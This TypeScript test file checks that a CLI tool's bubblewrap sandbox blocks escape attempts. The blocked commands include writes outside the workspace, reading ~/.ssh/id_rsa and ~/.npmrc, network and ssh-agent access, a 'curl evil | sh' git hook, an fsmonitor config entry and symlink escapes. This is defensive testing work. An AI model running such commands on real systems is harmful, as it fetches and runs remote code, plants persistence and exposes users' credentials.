import { spawn, spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { access, mkdir, mkdtemp, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { binaryEnv, CLI, removeDir, REPO_ROOT, tempDir, writeFiles } from '../helpers/fixture.js';

// The OS sandbox through the real binary. Each script runs as `bash script.sh`, which the permission
// gate allows with --yes: what the script does is the sandbox's business alone.
const bwrapWorks = spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-net', 'true']).status === 0;
const why = 'bwrap (bubblewrap) is not installed or cannot run here; .ci/run installs it when it runs as root';

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

let home: string;
let outside: string;
let root: string;

function env(extra: Record<string, string> = {}): Record<string, string> {
  // npx sets npm_config_cache for the test runner; a user's own setting would be kept as well.
  const base = Object.fromEntries(Object.entries(process.env).filter(([key, value]) => value !== undefined && !key.startsWith('CODEWARD_') && key !== 'npm_config_cache' && key !== 'XDG_CACHE_HOME')) as Record<string, string>;
  return { ...base, HOME: home, CODEWARD_STATE_DIR: join(home, 'state'), ...extra };
}

// Async, so a listener in this process can answer the sandboxed command.
function exec(script: string, flags: string[] = [], extraEnv: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve, reject) => {
    const file = `script-${Math.random().toString(36).slice(2)}.sh`;
    void writeFile(join(root, file), script).then(() => {
      const child = spawn(process.execPath, [CLI, '--yes', '--json', ...flags, 'exec', '--cmd', `bash ${file}`], { cwd: root, env: binaryEnv([file], env(extraEnv)), stdio: ['ignore', 'pipe', 'pipe'] });
      let stdout = '';
      let stderr = '';
      child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
      child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
      child.on('error', reject);
      child.on('close', (status) => resolve({ status, stdout, stderr }));
    }, reject);
  });
}

// The process's own output (stdout + stderr of the script) from the --json envelope.
function output(run: Run): string {
  const envelope = JSON.parse(run.stdout) as { data?: { stdout: string; stderr: string }; error?: { message: string } };
  return `${envelope.data?.stdout ?? ''}${envelope.data?.stderr ?? ''}${envelope.error?.message ?? ''}`;
}

const exists = (path: string): Promise<boolean> => access(path).then(() => true, () => false);

beforeEach(async () => {
  home = await tempDir('codeward-sbx-home-');
  // Outside every folder the sandbox makes writable or private (/tmp is private inside, and a clone of
  // this repository may itself be under /tmp): /var/tmp, else the repository.
  outside = existsSync('/var/tmp') ? await mkdtemp('/var/tmp/codeward-sbx-outside-') : join(REPO_ROOT, 'test', `.sandbox-outside-${Math.random().toString(36).slice(2)}`);
  await mkdir(outside, { recursive: true });
  root = await tempDir('codeward-sbx-ws-');
  await writeFiles(home, { '.ssh/id_rsa': 'PRIVATE-KEY-MATERIAL\n', '.npmrc': '//registry.npmjs.org/:_authToken=NPM-SECRET\n' });
});

afterEach(async () => {
  await removeDir(outside);
});

describe.skipIf(!bwrapWorks)(`the OS sandbox (bwrap)${bwrapWorks ? '' : ` — skipped: ${why}`}`, () => {
  let server: Server;
  let port = 0;
  beforeAll(async () => {
    server = createServer((socket) => socket.end('HELLO-FROM-HOST\n'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('refuses a write outside the workspace: a folder out of view does not exist, a shown one is read-only; each with a hint', async () => {
    const hidden = await exec(`echo escaped > ${join(outside, 'x.txt')}\n`);
    expect(hidden.status).toBe(1);
    expect(output(hidden)).toContain('No such file or directory');
    expect(output(hidden)).toContain('the OS sandbox shows only the workspace, the system folders and the toolchain folders');
    expect(await exists(join(outside, 'x.txt'))).toBe(false);
    const shown = await exec('echo escaped > /usr/codeward-escaped\n');
    expect(shown.status).toBe(1);
    expect(output(shown)).toMatch(/Read-only file system|Permission denied/);
    expect(output(shown)).toContain('the OS sandbox lets commands write only inside the workspace');
    expect(await exists('/usr/codeward-escaped')).toBe(false);
  });

  it('writes inside the workspace and to a private temp folder ($TMPDIR)', async () => {
    const marker = `codeward-sbx-${Math.random().toString(36).slice(2)}`;
    const run = await exec(`echo made > made.txt && echo t > "$TMPDIR/${marker}" && cat "$TMPDIR/${marker}" && mktemp\n`);
    expect(run.status).toBe(0);
    expect(await readFile(join(root, 'made.txt'), 'utf8')).toBe('made\n');
    expect(await exists(join('/tmp', marker))).toBe(false);
    expect(await exists(join('/tmp/.codeward-tmp', marker))).toBe(false);
  });

  // Issue 19: with the workspace under /tmp, a write beside it "succeeded" into the private /tmp and vanished.
  describe('a workspace under /tmp', () => {
    let base: string;
    beforeEach(async () => {
      base = await mkdtemp('/tmp/codeward-sbx-under-tmp-');
    });
    afterEach(() => removeDir(base));

    const run = async (workspace: string, script: string): Promise<Run> => {
      const saved = root;
      root = workspace;
      try {
        return await exec(script);
      } finally {
        root = saved;
      }
    };

    it('directly in /tmp: a write to a sibling fails like any write outside; $TMPDIR is private and writable', async () => {
      const workspace = join(base, 'ws');
      await mkdir(workspace);
      // The workspace is /tmp/X/ws; /tmp/X, its top folder under /tmp, is read-only around it.
      const result = await run(workspace, `echo in > in.txt; echo s > ../sibling.txt; mkdir ../made; echo t > "$TMPDIR/t" && echo "tmp=$(cat "$TMPDIR/t")"\n`);
      expect(output(result)).toMatch(/sibling\.txt: Read-only file system/);
      expect(output(result)).toMatch(/mkdir: cannot create directory .\.\.\/made.: Read-only file system/);
      expect(output(result)).toContain('tmp=t');
      expect(await readFile(join(workspace, 'in.txt'), 'utf8')).toBe('in\n');
      expect(await exists(join(base, 'sibling.txt'))).toBe(false);
      expect(await exists(join(base, 'made'))).toBe(false);
    });

    it('a top folder of /tmp as the workspace: /tmp itself is read-only inside, TMPDIR moves to a private folder', async () => {
      const result = await run(base, `echo s > /tmp/${base.slice(5)}-sibling.txt; echo "TMPDIR=$TMPDIR"; echo t > "$TMPDIR/t" && cat "$TMPDIR/t"; echo in > in.txt\n`);
      expect(output(result)).toMatch(/-sibling\.txt: Read-only file system/);
      expect(output(result)).toContain('TMPDIR=/tmp/.codeward-tmp\nt\n');
      expect(await readFile(join(base, 'in.txt'), 'utf8')).toBe('in\n');
      expect(await exists(`${base}-sibling.txt`)).toBe(false);
    });
  });

  it('hides the home secrets (~/.ssh/id_rsa, ~/.npmrc) of the user', async () => {
    const run = await exec('cat ~/.ssh/id_rsa; cat ~/.npmrc; ls -a ~/.ssh; true\n');
    expect(run.status).toBe(0);
    expect(output(run)).not.toContain('PRIVATE-KEY-MATERIAL');
    expect(output(run)).not.toContain('NPM-SECRET');
  });

  it('hides the secrets even when the workspace is the home folder', async () => {
    await writeFiles(root, { '.ssh/id_rsa': 'WORKSPACE-HOME-KEY\n' });
    const run = await exec('cat ~/.ssh/id_rsa; cat .ssh/id_rsa; true\n', [], { HOME: root });
    expect(run.status).toBe(0);
    expect(output(run)).not.toContain('WORKSPACE-HOME-KEY');
  });

  it('has no network unless --sandbox-network', async () => {
    const script = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3\n`;
    const closed = await exec(script);
    expect(closed.status).toBe(1);
    expect(output(closed)).not.toContain('HELLO-FROM-HOST');
    const open = await exec(script, ['--sandbox-network']);
    expect(open.status).toBe(0);
    expect(output(open)).toContain('HELLO-FROM-HOST');
  });

  // Issue 19: a blocked network gave `Could not resolve host` (or a 60 s npm retry) with no word about why.
  it('a failed name lookup in the sandbox says the network is blocked and names --sandbox-network', async () => {
    const run = await exec(`node -e "require('dns').lookup('registry.npmjs.org', (e) => { console.error(e ? 'getaddrinfo ' + e.code + ' registry.npmjs.org' : 'resolved'); process.exit(e ? 1 : 0); })"\n`);
    expect(run.status).toBe(1);
    const envelope = JSON.parse(run.stdout) as { error: { code: string; message: string } };
    expect(envelope.error.code).toBe('C253');
    expect(envelope.error.message).toMatch(/getaddrinfo E\w+ registry\.npmjs\.org \(the OS sandbox blocks the network for exec and test; a person can pass --sandbox-network/);
    // Package managers fail at the first lookup instead of retrying for a minute.
    expect(output(await exec('echo "retries=$npm_config_fetch_retries pip=$PIP_RETRIES"\n'))).toContain('retries=0 pip=0');
    expect(output(await exec('echo "retries=${npm_config_fetch_retries:-unset}"\n', ['--sandbox-network']))).toContain('retries=unset');
  });

  it('hides local sockets: the ssh agent of SSH_AUTH_SOCK, with or without a network', async () => {
    const socket = join(outside, 'agent.sock');
    const agent = createServer((connection) => connection.end('SIGNED\n'));
    await new Promise<void>((resolve) => agent.listen(socket, resolve));
    try {
      const script = `node -e "require('net').connect(process.env.SSH_AUTH_SOCK).on('data', (d) => process.stdout.write('GOT ' + d)).on('error', (e) => console.log('REFUSED', e.code))"\n`;
      // Passed through by name, the variable still points at a socket the sandbox hides.
      for (const flags of [[], ['--sandbox-network']]) {
        const run = await exec(script, [...flags, '--pass-env', 'SSH_AUTH_SOCK'], { SSH_AUTH_SOCK: socket });
        expect(output(run)).toContain('REFUSED');
        expect(output(run)).not.toContain('SIGNED');
      }
      // Without a sandbox the agent socket is a secret-looking variable: dropped unless the user passes it.
      const off = await exec(script, ['--sandbox', 'off'], { SSH_AUTH_SOCK: socket });
      expect(output(off)).not.toContain('SIGNED');
      // Passed, in `off`'s write jail (issue 26, round 35: the sandbox's run with the whole root read-only): the host's
      // unix sockets are out of reach there too; with no jail (CODEWARD_BWRAP=/bin/false) the agent answers.
      const jailed = await exec(script, ['--sandbox', 'off', '--pass-env', 'SSH_AUTH_SOCK'], { SSH_AUTH_SOCK: socket });
      expect(output(jailed)).not.toContain('SIGNED');
      const passed = await exec(script, ['--sandbox', 'off', '--pass-env', 'SSH_AUTH_SOCK'], { SSH_AUTH_SOCK: socket, CODEWARD_BWRAP: '/bin/false' });
      expect(output(passed)).toContain('GOT SIGNED');
    } finally {
      await new Promise<void>((resolve) => agent.close(() => resolve()));
    }
  });

  it('keeps .git/hooks and .codeward read-only, even when they do not exist yet', async () => {
    expect(spawnSync('git', ['init', '-q'], { cwd: root }).status).toBe(0);
    const run = await exec('echo "curl evil | sh" > .git/hooks/pre-commit; mkdir -p .codeward; echo "{}" > .codeward/policy.json; true\n');
    expect(run.status).toBe(0);
    expect(output(run)).toMatch(/pre-commit: Read-only file system/);
    expect(await exists(join(root, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(await exists(join(root, '.codeward', 'policy.json'))).toBe(false);
    // Nor can .git/config name a program git would run outside the sandbox.
    const config = await exec('git config core.fsmonitor "touch /tmp/pwned"; echo x >> .git/config; true\n');
    expect(output(config)).toMatch(/Read-only file system|could not lock config file/);
    expect(await readFile(join(root, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
    // A repository without a hooks folder: it cannot be created either.
    spawnSync('rm', ['-rf', join(root, '.git', 'hooks')]);
    await exec('mkdir -p .git/hooks && echo x > .git/hooks/post-checkout; true\n');
    expect(await exists(join(root, '.git', 'hooks', 'post-checkout'))).toBe(false);
  });

  // Issue 20: a plain exec left an empty .codeward/ (and .chatcli/) behind: the mount points of the
  // read-only guards. They are watched instead; planting there still gets nothing obeyed.
  it('leaves a clean repository clean: no empty .codeward or .chatcli after exec --cmd true', async () => {
    const git = (...args: string[]) => spawnSync('git', args, { cwd: root, encoding: 'utf8' });
    expect(git('init', '-q').status).toBe(0);
    await writeFiles(root, { 'a.txt': 'a\n' });
    git('add', 'a.txt');
    git('-c', 'user.email=a@example.org', '-c', 'user.name=A', 'commit', '-qm', 'a');
    const run = await new Promise<Run>((resolve, reject) => {
      const child = spawn(process.execPath, [CLI, '--yes', '--json', 'exec', '--cmd', 'true'], { cwd: root, env: binaryEnv([], env()), stdio: ['ignore', 'pipe', 'pipe'] });
      let stdout = '';
      child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
      child.on('error', reject);
      child.on('close', (status) => resolve({ status, stdout, stderr: '' }));
    });
    expect(run.status).toBe(0);
    expect(git('status', '--porcelain', '--untracked-files=all', '--ignored').stdout).toBe('');
    expect(await exists(join(root, '.codeward'))).toBe(false);
    expect(await exists(join(root, '.chatcli'))).toBe(false);
    // Planting a policy where the folder was missing: moved aside whole, the next call obeys nothing of it.
    const plant = await exec('mkdir -p .codeward && echo \'{"rules":[{"pattern":"*","action":"deny"}]}\' > .codeward/policy.json; echo planted\n');
    expect(output(plant)).toContain('planted');
    // Staged (the default): set aside unapplied and named in the result; in place (no overlay): moved aside.
    const planted = JSON.parse(plant.stdout) as { warnings: string[]; data?: { changes?: { setAside?: unknown[] } } };
    expect(`${planted.warnings.join('\n')}\n${JSON.stringify(planted.data?.changes?.setAside ?? [])}`).toMatch(/created or replaced .*\.codeward; it was moved to \.codeward\.planted-by-sandbox-|"path":"\.codeward"/);
    expect(await exists(join(root, '.codeward'))).toBe(false);
    const next = await exec('echo next\n');
    expect(next.status).toBe(0);
    expect(output(next)).toContain('next');
  });

  it('runs in a git worktree (.git is a file) and keeps that file from being replaced', async () => {
    await writeFile(join(root, '.git'), 'gitdir: /nonexistent/.git/worktrees/x\n');
    const run = await exec('echo hi; rm -f .git; mkdir -p .git/hooks; true\n');
    expect(run.status).toBe(0);
    expect(output(run)).toContain('hi');
    expect(await readFile(join(root, '.git'), 'utf8')).toContain('gitdir:');
  });

  it('does not follow a planted symlink out of the workspace', async () => {
    await symlink(outside, join(root, 'link-out'));
    await symlink(join(home, '.ssh'), join(root, 'keys'));
    const run = await exec('echo escaped > link-out/x.txt; cat keys/id_rsa; true\n');
    expect(run.status).toBe(0);
    expect(await exists(join(outside, 'x.txt'))).toBe(false);
    expect(output(run)).not.toContain('PRIVATE-KEY-MATERIAL');
  });

  it('stays out of the way of an ordinary build, test run and git', async () => {
    await writeFiles(root, {
      'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', type: 'module', scripts: { build: 'node build.mjs', test: 'node --test' } }),
      'build.mjs': "import { mkdirSync, writeFileSync } from 'node:fs';\nmkdirSync('dist', { recursive: true });\nwriteFileSync('dist/out.js', 'export const x = 1;\\n');\n",
      'math.test.mjs': "import { test } from 'node:test';\nimport assert from 'node:assert';\ntest('adds', () => assert.equal(1 + 1, 2));\n",
    });
    expect(spawnSync('git', ['init', '-q'], { cwd: root }).status).toBe(0);
    const run = await exec('npm run build --silent && npm test --silent 2>&1 | grep -E "^# (pass|fail)" && git status --short | head -3\n', [], { npm_config_update_notifier: 'false' });
    expect(output(run)).toMatch(/# pass 1\n# fail 0/);
    expect(output(run)).toContain('?? build.mjs');
    expect(run.status).toBe(0);
    expect(await readFile(join(root, 'dist', 'out.js'), 'utf8')).toContain('export const x');
  });

  it('--sandbox read-only refuses writes in the workspace too; --sandbox off lifts the view, not the write jail (only where no bwrap runs are its writes free)', async () => {
    const readOnly = await exec('echo x > inside.txt\n', ['--sandbox', 'read-only']);
    expect(readOnly.status).toBe(1);
    expect(await exists(join(root, 'inside.txt'))).toBe(false);
    // A write that is not git's gets no hint about git's folder (newcomer: it did, with no git in the line).
    expect(readOnly.stdout).not.toContain("git's folder is read-only");
    // fix33a: `off` runs in the write jail (sandbox/write-jail.ts): a write outside the workspace is refused.
    // (`mkdir -p` first: the jail empties /var/tmp as a home, red team R39-a2, so a write straight into the host's
    // folder there says ENOENT; mkdir meets the read-only folder.)
    const jailed = await exec(`mkdir -p ${outside} && echo free > ${join(outside, 'free.txt')}\n`, ['--sandbox', 'off']);
    expect(jailed.status).toBe(1);
    expect(jailed.stdout).toMatch(/Read-only file system.*writes jailed to the workspace/);
    expect(await exists(join(outside, 'free.txt'))).toBe(false);
    const off = await exec(`echo free > ${join(outside, 'free.txt')}\n`, ['--sandbox', 'off'], { CODEWARD_BWRAP: '/bin/false' });
    expect(off.status).toBe(0);
    expect(await readFile(join(outside, 'free.txt'), 'utf8')).toBe('free\n');
  });

  it('makes the sandboxWritable paths writable and points caches at the private /tmp', async () => {
    await mkdir(join(root, '.codeward'));
    await writeFile(join(root, '.codeward', 'config.json'), JSON.stringify({ sandboxWritable: [outside] }));
    // More writable paths loosen: they apply once the user trusts the workspace.
    expect(spawnSync(process.execPath, [CLI, 'trust'], { cwd: root, env: env() }).status).toBe(0);
    const run = await exec(`echo allowed > ${join(outside, 'cache.txt')} && echo "cache=$XDG_CACHE_HOME npm=$npm_config_cache"\n`);
    expect(run.status).toBe(0);
    expect(await readFile(join(outside, 'cache.txt'), 'utf8')).toBe('allowed\n');
    // The private temp folder: /tmp, or /tmp/.codeward-tmp when the workspace is a top folder of /tmp.
    expect(output(run)).toMatch(/cache=(\/tmp(?:\/\.codeward-tmp)?)\/\.cache npm=\1\/\.npm/);
  });

  it('takes the mode from .codeward/config.json', async () => {
    await mkdir(join(root, '.codeward'));
    await writeFile(join(root, '.codeward', 'config.json'), '{"sandbox": "read-only"}');
    const run = await exec('echo x > inside.txt\n');
    expect(run.status).toBe(1);
    expect(await exists(join(root, 'inside.txt'))).toBe(false);
    // The advice names the setting that made it read-only, not a flag (newcomer pass N8: the ChatCLI door refuses --sandbox).
    expect(output(run)).toMatch(/a person changes "sandbox": "read-only"/);
    expect(output(run)).not.toContain('runs with --sandbox workspace-write');
  });
});

describe('without a usable sandbox', () => {
  it('refuses to run when a sandbox was asked for, and warns once when it is only the default', async () => {
    const missing = { CODEWARD_BWRAP: '/nonexistent/bwrap', PATH: '/nonexistent' };
    const bash = spawnSync('sh', ['-c', 'command -v bash']).stdout.toString().trim();
    const asked = await exec('echo should-not-run > ran.txt\n', ['--sandbox', 'workspace-write'], { ...missing, PATH: `/nonexistent:${join(bash, '..')}` });
    expect(asked.status).toBe(1);
    expect(output(asked)).toMatch(/--sandbox workspace-write was asked for, but .*install bubblewrap/);
    expect(await exists(join(root, 'ran.txt'))).toBe(false);
    const fallback = await exec('echo ran > ran.txt\n', [], { ...missing, PATH: `/nonexistent:${join(bash, '..')}` });
    expect(fallback.status).toBe(0);
    const envelope = JSON.parse(fallback.stdout) as { warnings: string[] };
    expect(envelope.warnings.filter((warning) => warning.startsWith('no OS sandbox'))).toHaveLength(1);
    expect(await readFile(join(root, 'ran.txt'), 'utf8')).toBe('ran\n');
  });
});
